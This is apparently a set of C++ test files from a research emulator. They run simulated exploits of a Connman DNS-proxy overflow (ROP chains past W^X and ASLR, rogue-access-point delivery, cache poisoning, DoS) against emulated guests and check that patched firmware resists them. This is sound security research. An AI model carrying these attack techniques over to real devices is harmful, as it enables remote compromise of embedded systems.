    const util::Bytes before =
        sys->space.DebugRead(stack_probe, 32).value();

    // Trash guest state the way a corrupted execution would: scribble on
    // the stack, move registers, change permissions, advance the RNG.
    ASSERT_TRUE(
        sys->space.DebugWrite(stack_probe, util::Bytes(32, 0xEE)).ok());
    sys->cpu->set_sp(sp0 - 256);
    sys->cpu->set_pc(0xDEAD);
    sys->cpu->PushEvent(vm::EventKind::kNote, "corruption");
    ASSERT_TRUE(sys->space.Protect("stack", mem::kPermRX).ok());
    (void)sys->rng.NextU64();

    ASSERT_TRUE(RestoreSnapshot(*sys, snap).ok());
    EXPECT_EQ(sys->space.DebugRead(stack_probe, 32).value(), before);
    EXPECT_EQ(sys->cpu->sp(), sp0);
    EXPECT_EQ(sys->cpu->pc(), snap.cpu.pc);
    EXPECT_TRUE(sys->cpu->events().empty());
    const mem::Segment* stack = sys->space.FindSegmentByName("stack");
    ASSERT_NE(stack, nullptr);
    EXPECT_TRUE(mem::Has(stack->perms(), mem::Perm::kWrite));
    // Restored RNG replays the same stream as a fresh boot would.
    auto fresh = Boot(arch, ProtectionConfig::None(), 5).value();
    EXPECT_EQ(sys->rng.NextU64(), fresh->rng.NextU64());
  }
}

TEST(Snapshot, RestoreAfterExecutionRewindsSteps) {
  auto sys = Boot(Arch::kVX86, ProtectionConfig::None(), 5).value();
  const Snapshot snap = TakeSnapshot(*sys);
  const std::uint64_t steps0 = sys->cpu->steps_executed();
  (void)sys->cpu->Run(50);  // wander from _start for a bit
  EXPECT_GT(sys->cpu->steps_executed(), steps0);
  ASSERT_TRUE(RestoreSnapshot(*sys, snap).ok());
  EXPECT_EQ(sys->cpu->steps_executed(), steps0);
  EXPECT_FALSE(sys->cpu->stopped());
}

TEST(Snapshot, RefusesForeignSystem) {
  auto a = Boot(Arch::kVX86, ProtectionConfig::None(), 5).value();
  auto b = Boot(Arch::kVX86, ProtectionConfig::WxAslr(), 977).value();
  const Snapshot snap = TakeSnapshot(*a);
  // Different ASLR slide => different segment bases; the restore must
  // refuse rather than scribble over the wrong layout.
  auto status = RestoreSnapshot(*b, snap);
  if (b->layout.libc_base != a->layout.libc_base) {
    EXPECT_FALSE(status.ok());
  }
}

// Trashes guest state the way a corrupted execution would: stack scribble,
// register churn, a W^X flip, RNG advance. Deterministic, so two
// identically-booted systems end up trashed identically.
void TrashSystem(System& sys) {
  const std::uint32_t sp0 = sys.cpu->sp();
  ASSERT_TRUE(sys.space.DebugWrite(sp0 - 64, util::Bytes(32, 0xEE)).ok());
  ASSERT_TRUE(sys.space.WriteU32(sys.layout.bss_base + 16, 0xFEEDu).ok());
  sys.cpu->set_sp(sp0 - 256);
  sys.cpu->set_pc(0xDEAD);
  ASSERT_TRUE(sys.space.Protect("stack", mem::kPermRX).ok());
  (void)sys.rng.NextU64();
}

std::vector<util::Bytes> AllSegmentBytes(const System& sys) {
  std::vector<util::Bytes> out;
  for (const auto& seg : sys.space.segments()) out.push_back(seg->data());
  return out;
}

TEST(Snapshot, DirtyOnlyRestoreIsObservablyIdenticalToFull) {
  auto full_sys = Boot(Arch::kVX86, ProtectionConfig::None(), 5).value();
  auto dirty_sys = Boot(Arch::kVX86, ProtectionConfig::None(), 5).value();
  const Snapshot full_snap = TakeSnapshot(*full_sys);
  const Snapshot dirty_snap = TakeSnapshot(*dirty_sys);

  TrashSystem(*full_sys);
  TrashSystem(*dirty_sys);
  ASSERT_TRUE(RestoreSnapshot(*full_sys, full_snap, RestoreMode::kFull).ok());
  ASSERT_TRUE(
      RestoreSnapshot(*dirty_sys, dirty_snap, RestoreMode::kDirtyOnly).ok());

  EXPECT_EQ(AllSegmentBytes(*full_sys), AllSegmentBytes(*dirty_sys));
  EXPECT_EQ(full_sys->cpu->sp(), dirty_sys->cpu->sp());
  EXPECT_EQ(full_sys->cpu->pc(), dirty_sys->cpu->pc());
  EXPECT_EQ(full_sys->rng.NextU64(), dirty_sys->rng.NextU64());

  // Round 2 on the dirty system: the first restore must leave the bitmap
  // re-armed so a second trash/rewind cycle is just as correct.
  TrashSystem(*dirty_sys);
  ASSERT_TRUE(
      RestoreSnapshot(*dirty_sys, dirty_snap, RestoreMode::kDirtyOnly).ok());
  EXPECT_EQ(AllSegmentBytes(*full_sys), AllSegmentBytes(*dirty_sys));
}

TEST(Snapshot, WxFlipRolledBackByRestoreInBothModes) {
  for (const RestoreMode mode : {RestoreMode::kFull, RestoreMode::kDirtyOnly}) {
    auto sys = Boot(Arch::kVX86, ProtectionConfig::WxAslr(), 5).value();
    const Snapshot snap = TakeSnapshot(*sys);

    // mprotect-style attack staging between snapshot and restore: make the
    // stack executable and the text image writable.
    ASSERT_TRUE(sys->space.Protect("stack", mem::kPermRWX).ok());
    ASSERT_TRUE(sys->space.Protect(".text", mem::kPermRWX).ok());

    ASSERT_TRUE(RestoreSnapshot(*sys, snap, mode).ok());
    const mem::Segment* stack = sys->space.FindSegmentByName("stack");
    const mem::Segment* text = sys->space.FindSegmentByName(".text");
    ASSERT_NE(stack, nullptr);
    ASSERT_NE(text, nullptr);
    // Permissions — not just bytes — are part of the snapshot contract.
    EXPECT_EQ(stack->perms(), mem::kPermRW)
        << "mode " << static_cast<int>(mode);
    EXPECT_EQ(text->perms(), mem::kPermRX) << "mode " << static_cast<int>(mode);
  }
}

/// Superblock tier across W^X flips and snapshot restores: a hot loop in
/// .scratch compiles into blocks, a Protect flip bumps the segment's write
/// generation (dropping them), and a RestoreSnapshot in either mode rewinds
/// bytes + permissions. Re-running and then rewriting the loop afterwards
/// must always execute the current bytes — never a stale compiled block.
TEST(Snapshot, SuperblockTierSurvivesWxFlipAndRestoreInBothModes) {
  for (const RestoreMode mode : {RestoreMode::kFull, RestoreMode::kDirtyOnly}) {
    auto sys = Boot(Arch::kVX86, ProtectionConfig::None(), 7).value();
    ASSERT_TRUE(sys->cpu->superblocks_enabled());
    const mem::GuestAddr scratch = sys->Sym("scratch.start").value();
    const Snapshot snap = TakeSnapshot(*sys);

    auto assemble_loop = [&](std::uint32_t iters) {
      isa::Assembler a(Arch::kVX86, scratch);
      isa::vx86::EncMovImm(a.w(), isa::kEAX, iters);
      a.Label("loop");
      isa::vx86::EncSubImm(a.w(), isa::kEAX, 1);
      isa::vx86::EncCmpImm(a.w(), isa::kEAX, 0);
      a.JnzLabel("loop");
      isa::vx86::EncHlt(a.w());
      return a.Finish().value();
    };

    // Round 1: compile + run the loop hot (blocks built and chained).
    ASSERT_TRUE(sys->space.DebugWrite(scratch, assemble_loop(500)).ok());
    ASSERT_TRUE(sys->space.Protect(".scratch", mem::kPermRX).ok());
    sys->cpu->set_pc(scratch);
    auto first = sys->cpu->Run(100000);
    EXPECT_EQ(first.reason, vm::StopReason::kHalted);
    EXPECT_EQ(first.steps, 1502u) << "mode " << static_cast<int>(mode);

    // W^X flip mid-life bumps the generation, then restore rewinds all of
    // it (bytes AND permissions) to the snapshot image.
    ASSERT_TRUE(sys->space.Protect(".scratch", mem::kPermRW).ok());
    ASSERT_TRUE(RestoreSnapshot(*sys, snap, mode).ok());

    // Round 2 on the restored image: a different loop at the same pc. A
    // stale block from round 1 would retire 1502 steps; the rewritten
    // 200-iteration loop retires 602.
    ASSERT_TRUE(sys->space.DebugWrite(scratch, assemble_loop(200)).ok());
    ASSERT_TRUE(sys->space.Protect(".scratch", mem::kPermRX).ok());
    sys->cpu->set_pc(scratch);
    auto second = sys->cpu->Run(100000);
    EXPECT_EQ(second.reason, vm::StopReason::kHalted);
    EXPECT_EQ(second.steps, 602u) << "mode " << static_cast<int>(mode);
  }
}

/// Snapshot restore drops stale block links: a two-block chain compiles and
/// links in round 1, the restore rewinds .scratch, and round 2 rewrites
/// only the *successor* at the same addresses. The unchanged predecessor
/// must not ride its stale edge into the old successor.
TEST(Snapshot, RestoreDropsStaleBlockLinksInBothModes) {
  for (const RestoreMode mode : {RestoreMode::kFull, RestoreMode::kDirtyOnly}) {
    auto sys = Boot(Arch::kVX86, ProtectionConfig::None(), 7).value();
    ASSERT_TRUE(sys->cpu->block_links_enabled());
    const mem::GuestAddr scratch = sys->Sym("scratch.start").value();
    const Snapshot snap = TakeSnapshot(*sys);

    // Predecessor bytes are identical in both rounds; only the successor's
    // immediate differs, so a surviving A→B link is exactly the hazard.
    util::ByteWriter probe;
    isa::vx86::EncMovImm(probe, isa::kECX, 5);
    isa::vx86::EncJmp(probe, 0);
    const std::uint32_t b_addr = static_cast<std::uint32_t>(
        scratch + probe.bytes().size());
    auto assemble_chain = [&](std::uint32_t esi_val) {
      util::ByteWriter w;
      isa::vx86::EncMovImm(w, isa::kECX, 5);  // A
      isa::vx86::EncJmp(w, b_addr);
      isa::vx86::EncMovImm(w, isa::kESI, esi_val);  // B
      isa::vx86::EncHlt(w);
      return w.bytes();
    };

    ASSERT_TRUE(sys->space.DebugWrite(scratch, assemble_chain(7)).ok());
    ASSERT_TRUE(sys->space.Protect(".scratch", mem::kPermRX).ok());
    sys->cpu->set_pc(scratch);
    EXPECT_EQ(sys->cpu->Run(100).reason, vm::StopReason::kHalted);
    EXPECT_EQ(sys->cpu->reg(isa::kESI), 7u);

    ASSERT_TRUE(RestoreSnapshot(*sys, snap, mode).ok());
    ASSERT_TRUE(sys->space.DebugWrite(scratch, assemble_chain(9)).ok());
    ASSERT_TRUE(sys->space.Protect(".scratch", mem::kPermRX).ok());
    sys->cpu->set_pc(scratch);
    EXPECT_EQ(sys->cpu->Run(100).reason, vm::StopReason::kHalted);
    EXPECT_EQ(sys->cpu->reg(isa::kESI), 9u)
        << "stale link survived restore, mode " << static_cast<int>(mode);
  }
}

// --- Shared decode plans at boot -------------------------------------------

TEST(Boot, BindsSharedPlansForImmutableTextOnly) {
  auto sys = Boot(Arch::kVX86, ProtectionConfig::None(), 5).value();
  const mem::Segment* text = sys->space.FindSegmentByName(".text");
  const mem::Segment* libc = sys->space.FindSegmentByName("libc");
  const mem::Segment* stack = sys->space.FindSegmentByName("stack");
  ASSERT_NE(text, nullptr);
  ASSERT_NE(libc, nullptr);
  ASSERT_NE(stack, nullptr);
  EXPECT_NE(sys->cpu->BoundPlan(text), nullptr);
  EXPECT_NE(sys->cpu->BoundPlan(libc), nullptr);
  // The non-W^X stack is RWX: the first shellcode byte would invalidate a
  // plan anyway, so Boot never binds one to writable memory.
  EXPECT_EQ(sys->cpu->BoundPlan(stack), nullptr);

  // An identically-seeded boot — campaign worker N — reuses worker 0's plan
  // object rather than re-decoding the image.
  auto sys2 = Boot(Arch::kVX86, ProtectionConfig::None(), 5).value();
  EXPECT_EQ(sys2->cpu->BoundPlan(sys2->space.FindSegmentByName(".text")),
            sys->cpu->BoundPlan(text));
}

/// Diversity-reshuffled boots (per-boot function shuffle) must never be
/// served a plan built from a differently-shuffled image: the registry keys
/// on content, so each layout gets a plan hashing exactly its own bytes.
TEST(Boot, DiversityReshuffledBootNeverSeesAForeignPlan) {
  ProtectionConfig prot = ProtectionConfig::WxAslr();
  prot.stochastic_diversity = true;
  auto a = Boot(Arch::kVX86, prot, 11).value();
  auto b = Boot(Arch::kVX86, prot, 12).value();
  const mem::Segment* text_a = a->space.FindSegmentByName(".text");
  const mem::Segment* text_b = b->space.FindSegmentByName(".text");
  ASSERT_NE(text_a, nullptr);
  ASSERT_NE(text_b, nullptr);
  ASSERT_NE(text_a->data(), text_b->data());  // the shuffle actually shuffled

  const vm::DecodePlan* plan_a = a->cpu->BoundPlan(text_a);
  const vm::DecodePlan* plan_b = b->cpu->BoundPlan(text_b);
  ASSERT_NE(plan_a, nullptr);
  ASSERT_NE(plan_b, nullptr);
  EXPECT_NE(plan_a, plan_b);
  // Each plan describes its own boot's bytes — a stale cross-boot decode is
  // structurally impossible.
  EXPECT_EQ(plan_a->content_hash(),
            vm::DecodePlan::HashContent(
                util::ByteSpan(text_a->data().data(), text_a->data().size())));
  EXPECT_EQ(plan_b->content_hash(),
            vm::DecodePlan::HashContent(
                util::ByteSpan(text_b->data().data(), text_b->data().size())));

  // And both images execute from their own plans without faulting.
  EXPECT_NE(a->cpu->Run(50).reason, vm::StopReason::kFault);
  EXPECT_NE(b->cpu->Run(50).reason, vm::StopReason::kFault);
}

TEST(Snapshot, DirtyOnlyFallsBackWhenBaselineBelongsToAnotherSnapshot) {
  auto sys = Boot(Arch::kVX86, ProtectionConfig::None(), 5).value();
  const mem::GuestAddr probe = sys->layout.bss_base + 8;
  const std::uint32_t probe_at_a = sys->space.ReadU32(probe).value();
  const Snapshot snap_a = TakeSnapshot(*sys);

  ASSERT_TRUE(sys->space.WriteU32(probe, 0xB000Bu).ok());
  const Snapshot snap_b = TakeSnapshot(*sys);  // baselines now point at B

  ASSERT_TRUE(sys->space.WriteU32(probe, 0xC000Cu).ok());

  // Restoring A with the bitmap armed for B must not trust the dirty bits:
  // every segment falls back to a full copy, and the probe returns to A's
  // value, not B's.
  ASSERT_TRUE(RestoreSnapshot(*sys, snap_a, RestoreMode::kDirtyOnly).ok());
  EXPECT_EQ(sys->space.ReadU32(probe).value(), probe_at_a);

  // And the fallback re-armed the baseline for A: flipping back to B now
  // takes the mismatch path again, still byte-correct.
  ASSERT_TRUE(RestoreSnapshot(*sys, snap_b, RestoreMode::kDirtyOnly).ok());
  EXPECT_EQ(sys->space.ReadU32(probe).value(), 0xB000Bu);
}

}  // namespace
}  // namespace connlab::loader
