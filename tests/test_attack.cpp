// Attack-orchestration tests: the controlled-environment matrix runner,
// the defense rows, and the full remote Pineapple scenario (§III-D).
#include <gtest/gtest.h>

#include <algorithm>

#include "src/attack/matrix.hpp"
#include "src/attack/report.hpp"
#include "src/attack/scenario.hpp"

namespace connlab::attack {
namespace {

using isa::Arch;
using loader::ProtectionConfig;
using Kind = connman::ProxyOutcome::Kind;

TEST(ControlledScenario, ReportsProbeAndPayloadMetrics) {
  ScenarioConfig config;
  config.arch = Arch::kVARM;
  config.prot = ProtectionConfig::WxAslr();
  auto result = RunControlledScenario(config);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  const AttackResult& r = result.value();
  EXPECT_TRUE(r.shell) << r.detail;
  EXPECT_TRUE(r.exploit_available);
  EXPECT_GE(r.probes, 5);            // ARM probing needs the fixup loop
  EXPECT_GT(r.payload_bytes, 1072u); // past the return slot
  EXPECT_GT(r.labels, 16u);          // >1 KiB of 63-byte labels
  EXPECT_GT(r.response_bytes, r.payload_bytes);  // wire adds header/labels
  EXPECT_GT(r.guest_steps, 0u);
}

TEST(ControlledScenario, SixAttackMatrixAllShells) {
  auto results = RunSixAttackMatrix();
  ASSERT_TRUE(results.ok()) << results.status().ToString();
  ASSERT_EQ(results.value().size(), 6u);
  for (const AttackResult& r : results.value()) {
    EXPECT_TRUE(r.shell) << r.RowLabel() << ": " << r.detail;
    EXPECT_EQ(r.OutcomeLabel(), "ROOT SHELL");
  }
}

TEST(ControlledScenario, CrossTechniqueMatrixShowsEscalation) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    auto results = RunCrossTechniqueMatrix(arch);
    ASSERT_TRUE(results.ok()) << results.status().ToString();
    ASSERT_EQ(results.value().size(), 9u);
    const auto& rows = results.value();
    // Row layout: technique-major, protection-minor.
    // Code injection: works at none, dies at W^X and W^X+ASLR.
    EXPECT_TRUE(rows[0].shell);
    EXPECT_FALSE(rows[1].shell);
    EXPECT_FALSE(rows[2].shell);
    // libc/gadget technique: works at none+W^X, dies at ASLR.
    EXPECT_TRUE(rows[3].shell);
    EXPECT_TRUE(rows[4].shell);
    EXPECT_FALSE(rows[5].shell);
    // ROP chain: works everywhere.
    EXPECT_TRUE(rows[6].shell);
    EXPECT_TRUE(rows[7].shell);
    EXPECT_TRUE(rows[8].shell);
  }
}

TEST(ControlledScenario, DefenseMatrixStopsEverything) {
  auto results = RunDefenseMatrix();
  ASSERT_TRUE(results.ok()) << results.status().ToString();
  ASSERT_EQ(results.value().size(), 4u);
  for (const AttackResult& r : results.value()) {
    EXPECT_FALSE(r.shell) << r.RowLabel() << ": " << r.detail;
  }
}

TEST(Report, TableContainsEveryRow) {
  auto results = RunSixAttackMatrix();
  ASSERT_TRUE(results.ok());
  const std::string table =
      RenderMatrixTable(results.value(), "six attacks");
  EXPECT_NE(table.find("six attacks"), std::string::npos);
  EXPECT_NE(table.find("vx86"), std::string::npos);
  EXPECT_NE(table.find("varm"), std::string::npos);
  EXPECT_NE(table.find("W^X+ASLR"), std::string::npos);
  EXPECT_NE(table.find("ROOT SHELL"), std::string::npos);
  EXPECT_NE(table.find("rop-memcpy-chain"), std::string::npos);
}

struct RemoteCase {
  Arch arch;
  ProtectionConfig prot;
  const char* name;
};

class PineappleTest : public ::testing::TestWithParam<RemoteCase> {};

TEST_P(PineappleTest, FullRemoteChainCompromisesDevice) {
  ScenarioConfig config;
  config.arch = GetParam().arch;
  config.prot = GetParam().prot;
  auto remote = RunPineappleScenario(config);
  ASSERT_TRUE(remote.ok()) << remote.status().ToString();
  const RemoteResult& r = remote.value();
  EXPECT_TRUE(r.benign_resolution_before);
  EXPECT_TRUE(r.roamed_to_rogue);
  EXPECT_GE(r.queries_intercepted, 1u);
  EXPECT_TRUE(r.attack.shell) << r.attack.detail;
}

// §III-D: the x86 feasibility check (basic stack smash over the MITM) and
// all three ARM exploits delivered remotely.
INSTANTIATE_TEST_SUITE_P(
    RemoteAttacks, PineappleTest,
    ::testing::Values(
        RemoteCase{Arch::kVX86, ProtectionConfig::None(), "x86_smash"},
        RemoteCase{Arch::kVARM, ProtectionConfig::None(), "arm_inject"},
        RemoteCase{Arch::kVARM, ProtectionConfig::WxOnly(), "arm_wx"},
        RemoteCase{Arch::kVARM, ProtectionConfig::WxAslr(), "arm_wx_aslr"}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(PineappleScenario, PatchedFirmwareSurvivesTheChain) {
  ScenarioConfig config;
  config.arch = Arch::kVARM;
  config.prot = ProtectionConfig::WxAslr();
  config.version = connman::Version::k135;
  auto remote = RunPineappleScenario(config);
  ASSERT_TRUE(remote.ok()) << remote.status().ToString();
  // The MITM chain still works (association, interception)...
  EXPECT_TRUE(remote.value().roamed_to_rogue);
  EXPECT_GE(remote.value().queries_intercepted, 1u);
  // ...but the payload bounces off the patched parser.
  EXPECT_FALSE(remote.value().attack.shell);
  EXPECT_EQ(remote.value().attack.kind, Kind::kParseError)
      << remote.value().attack.detail;
}

TEST(PineappleScenario, RenderedReportMentionsKeyFacts) {
  ScenarioConfig config;
  config.arch = Arch::kVARM;
  config.prot = ProtectionConfig::WxAslr();
  auto remote = RunPineappleScenario(config);
  ASSERT_TRUE(remote.ok());
  const std::string report = RenderRemoteResult(remote.value());
  EXPECT_NE(report.find("roamed to rogue AP:       yes"), std::string::npos);
  EXPECT_NE(report.find("ROOT SHELL"), std::string::npos);
}

TEST(ControlledScenario, DosTechniqueOverrideCrashes) {
  ScenarioConfig config;
  config.arch = Arch::kVX86;
  config.prot = ProtectionConfig::WxAslr();
  config.technique = exploit::Technique::kDosCrash;
  auto result = RunControlledScenario(config);
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result.value().crash);
  EXPECT_FALSE(result.value().shell);
  EXPECT_EQ(result.value().OutcomeLabel(), "crash (DoS)");
}

}  // namespace
}  // namespace connlab::attack

namespace connlab::attack {
namespace {

TEST(CachePoisoning, RedirectsTrafficWithoutMemoryCorruption) {
  // Works against patched 1.35: the §III-D Mirai-style channel needs no
  // overflow at all, only the MITM position.
  ScenarioConfig config;
  config.arch = isa::Arch::kVARM;
  config.prot = loader::ProtectionConfig::WxAslr();
  config.version = connman::Version::k135;
  auto result = RunCachePoisoningScenario(config);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_TRUE(result.value().roamed_to_rogue);
  EXPECT_TRUE(result.value().cache_poisoned);
  EXPECT_EQ(result.value().victim_resolves_to, "10.66.66.66");
  EXPECT_GE(result.value().answers_forged, 1u);
}

TEST(CachePoisoning, WithoutRogueApTheCacheStaysClean) {
  // Control: same flow, Pineapple never powers on — implemented by running
  // the normal Pineapple scenario against patched firmware and checking
  // the *legitimate* record was cached during the pre-attack phase.
  ScenarioConfig config;
  config.arch = isa::Arch::kVX86;
  config.prot = loader::ProtectionConfig::WxAslr();
  config.version = connman::Version::k135;
  auto remote = RunPineappleScenario(config);
  ASSERT_TRUE(remote.ok());
  EXPECT_TRUE(remote.value().benign_resolution_before);
}

}  // namespace
}  // namespace connlab::attack

#include "src/attack/campaign.hpp"
#include "src/attack/firmware.hpp"

namespace connlab::attack {
namespace {

TEST(FirmwareSurvey, VulnerableShipsFallPatchedSurvives) {
  auto rows = RunFirmwareSurvey();
  ASSERT_TRUE(rows.ok()) << rows.status().ToString();
  ASSERT_EQ(rows.value().size(), KnownFirmware().size());
  for (const FirmwareSurveyRow& row : rows.value()) {
    if (row.firmware.version == connman::Version::k134) {
      EXPECT_TRUE(row.attack.shell)
          << row.firmware.name << ": " << row.attack.detail;
    } else {
      EXPECT_FALSE(row.attack.shell) << row.firmware.name;
    }
  }
  const std::string table = RenderFirmwareSurvey(rows.value());
  EXPECT_NE(table.find("openelec-8"), std::string::npos);
  EXPECT_NE(table.find("tizen-3.0"), std::string::npos);
  EXPECT_NE(table.find("mainline"), std::string::npos);
}

TEST(DosCampaign, AvailabilityDropsUnderAttackOn134) {
  CampaignConfig config;
  config.version = connman::Version::k134;
  config.total_lookups = 100;
  config.attack_every_n = 10;
  config.restart_downtime_lookups = 3;
  auto result = RunDosCampaign(config);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  const CampaignResult& r = result.value();
  EXPECT_GT(r.crashes, 0);
  // A crash at the very end of the campaign may leave its restart pending.
  EXPECT_GE(r.crashes, r.restarts);
  EXPECT_LE(r.crashes - r.restarts, 1);
  EXPECT_LE(r.lookups_lost_downtime, r.crashes * 3);
  EXPECT_GE(r.lookups_lost_downtime, (r.crashes - 1) * 3);
  EXPECT_LT(r.availability(), 0.95);
  EXPECT_GT(r.availability(), 0.5);
  EXPECT_EQ(r.lookups_attempted, 100);
}

TEST(DosCampaign, PatchedBuildKeepsFullBenignAvailability) {
  CampaignConfig config;
  config.version = connman::Version::k135;
  config.total_lookups = 100;
  config.attack_every_n = 10;
  auto result = RunDosCampaign(config);
  ASSERT_TRUE(result.ok());
  const CampaignResult& r = result.value();
  EXPECT_EQ(r.crashes, 0);
  EXPECT_EQ(r.attacks_rejected, r.attacks_sent);
  // Only the attacked lookups themselves fail; the daemon never dies.
  EXPECT_EQ(r.lookups_served, 100 - r.attacks_sent);
}

TEST(DosCampaign, NoAttackMeansPerfectAvailability) {
  CampaignConfig config;
  config.attack_every_n = 0;
  config.total_lookups = 50;
  auto result = RunDosCampaign(config);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result.value().availability(), 1.0);
  EXPECT_EQ(result.value().crashes, 0);
}

TEST(DosCampaign, HigherAttackRateLowersAvailability) {
  double prev = 1.1;
  for (int n : {20, 10, 5}) {
    CampaignConfig config;
    config.attack_every_n = n;
    config.total_lookups = 200;
    auto result = RunDosCampaign(config);
    ASSERT_TRUE(result.ok());
    EXPECT_LT(result.value().availability(), prev) << "n=" << n;
    prev = result.value().availability();
  }
}

TEST(Report, CsvHasHeaderAndRows) {
  auto results = RunSixAttackMatrix();
  ASSERT_TRUE(results.ok());
  const std::string csv = RenderCsv(results.value());
  EXPECT_NE(csv.find("arch,protections"), std::string::npos);
  // Header + 6 rows.
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 7);
  EXPECT_NE(csv.find("rop-memcpy-chain"), std::string::npos);
}

TEST(Report, JsonIsWellFormedEnough) {
  auto results = RunSixAttackMatrix();
  ASSERT_TRUE(results.ok());
  const std::string json = RenderJson(results.value());
  EXPECT_EQ(json.front(), '[');
  EXPECT_EQ(std::count(json.begin(), json.end(), '{'), 6);
  EXPECT_EQ(std::count(json.begin(), json.end(), '}'), 6);
  EXPECT_NE(json.find("\"shell\": true"), std::string::npos);
}

}  // namespace
}  // namespace connlab::attack

namespace connlab::attack {
namespace {

TEST(LureScenario, ExploitRidesTheLegitimateResolutionChain) {
  // §III-D's second delivery class: no rogue AP at all — the device is on
  // its own network, behind its own resolver, and still gets shelled when
  // it resolves an attacker-controlled domain.
  ScenarioConfig config;
  config.arch = isa::Arch::kVARM;
  config.prot = loader::ProtectionConfig::WxAslr();
  auto result = RunLureScenario(config);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_TRUE(result.value().on_legitimate_network);
  EXPECT_EQ(result.value().forwarded, 1u);
  EXPECT_TRUE(result.value().attack.shell) << result.value().attack.detail;
}

TEST(LureScenario, PatchedFirmwareSurvivesTheLure) {
  ScenarioConfig config;
  config.arch = isa::Arch::kVARM;
  config.prot = loader::ProtectionConfig::WxAslr();
  config.version = connman::Version::k135;
  auto result = RunLureScenario(config);
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result.value().attack.shell);
  EXPECT_EQ(result.value().attack.kind,
            connman::ProxyOutcome::Kind::kParseError);
}

}  // namespace
}  // namespace connlab::attack
