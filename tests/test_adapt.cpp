// §V adaptation tests: the Connman exploit machinery re-targeted to
// minimasq (DNS delivery, different geometry) and httpcamd (HTTP delivery).
#include <gtest/gtest.h>

#include "src/adapt/retarget.hpp"

#include "src/exploit/rop_arm.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"

namespace connlab::adapt {
namespace {

using isa::Arch;
using loader::ProtectionConfig;
using Kind = ServiceOutcome::Kind;

TEST(Minimasq, BenignReplyIsProcessed) {
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  Minimasq service(*sys);
  dns::Message query = dns::Message::Query(0x21, "host.example");
  ASSERT_TRUE(service.ForwardQuery(dns::Encode(query).value()).ok());
  dns::Message response = dns::Message::ResponseFor(query);
  response.answers.push_back(dns::MakeA("host.example", "1.2.3.4"));
  auto outcome = service.HandleReply(dns::Encode(response).value());
  EXPECT_EQ(outcome.kind, Kind::kOk) << outcome.detail;
}

TEST(Minimasq, RejectsUnsolicitedReplies) {
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  Minimasq service(*sys);
  dns::Message response =
      dns::Message::ResponseFor(dns::Message::Query(0x99, "x.example"));
  auto outcome = service.HandleReply(dns::Encode(response).value());
  EXPECT_EQ(outcome.kind, Kind::kRejected);
}

TEST(Minimasq, SmallerBufferMeansSmallerRetOffset) {
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  Minimasq service(*sys);
  EXPECT_EQ(service.ret_offset(), 512u + 24 + 16);
  auto sys_arm = loader::Boot(Arch::kVARM, ProtectionConfig::None(), 1).value();
  Minimasq service_arm(*sys_arm);
  EXPECT_EQ(service_arm.ret_offset(), 512u + 24 + 32);
}

TEST(Minimasq, OversizedNameCrashes) {
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  Minimasq service(*sys);
  dns::Message query = dns::Message::Query(0x22, "victim.example");
  ASSERT_TRUE(service.ForwardQuery(dns::Encode(query).value()).ok());
  auto labels = dns::JunkLabels(4000);
  ASSERT_TRUE(labels.ok());
  auto evil = dns::MaliciousAResponse(query, labels.value());
  auto outcome = service.HandleReply(dns::Encode(evil).value());
  EXPECT_EQ(outcome.kind, Kind::kCrash);
}

class AdaptMatrix
    : public ::testing::TestWithParam<std::tuple<Arch, int>> {};

TEST_P(AdaptMatrix, MinimasqFallsToTheRetargetedExploit) {
  const Arch arch = std::get<0>(GetParam());
  const ProtectionConfig prot =
      std::get<1>(GetParam()) == 0   ? ProtectionConfig::None()
      : std::get<1>(GetParam()) == 1 ? ProtectionConfig::WxOnly()
                                     : ProtectionConfig::WxAslr();
  auto result = AttackMinimasq(arch, prot);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_TRUE(result.value().shell) << result.value().ToString();
}

TEST_P(AdaptMatrix, HttpCamdFallsToTheRetargetedExploit) {
  const Arch arch = std::get<0>(GetParam());
  const ProtectionConfig prot =
      std::get<1>(GetParam()) == 0   ? ProtectionConfig::None()
      : std::get<1>(GetParam()) == 1 ? ProtectionConfig::WxOnly()
                                     : ProtectionConfig::WxAslr();
  auto result = AttackHttpCamd(arch, prot);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_TRUE(result.value().shell) << result.value().ToString();
}

std::string AdaptCaseName(
    const ::testing::TestParamInfo<std::tuple<Arch, int>>& info) {
  std::string name = std::get<0>(info.param) == Arch::kVX86 ? "vx86" : "varm";
  static constexpr const char* kLevels[] = {"none", "wx", "wx_aslr"};
  return name + "_" + kLevels[std::get<1>(info.param)];
}

INSTANTIATE_TEST_SUITE_P(
    ArchByLevel, AdaptMatrix,
    ::testing::Combine(::testing::Values(Arch::kVX86, Arch::kVARM),
                       ::testing::Values(0, 1, 2)),
    AdaptCaseName);

TEST(HttpCamd, BenignRequestsServed) {
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  HttpCamd camd(*sys);
  auto outcome = camd.HandleRequest(util::BytesOf("GET /status HTTP/1.0\r\n\r\n"));
  EXPECT_EQ(outcome.kind, Kind::kOk);
  EXPECT_NE(camd.last_response().find("200 OK"), std::string::npos);
}

TEST(HttpCamd, MalformedRequestsRejected) {
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  HttpCamd camd(*sys);
  EXPECT_EQ(camd.HandleRequest(util::BytesOf("BREW /tea HTCPCP/1.0\r\n\r\n")).kind,
            Kind::kRejected);
  util::Bytes no_clen = util::BytesOf("POST /x HTTP/1.0\r\n\r\nbody");
  EXPECT_EQ(camd.HandleRequest(no_clen).kind, Kind::kRejected);
}

TEST(HttpCamd, SmallBodyIsFine) {
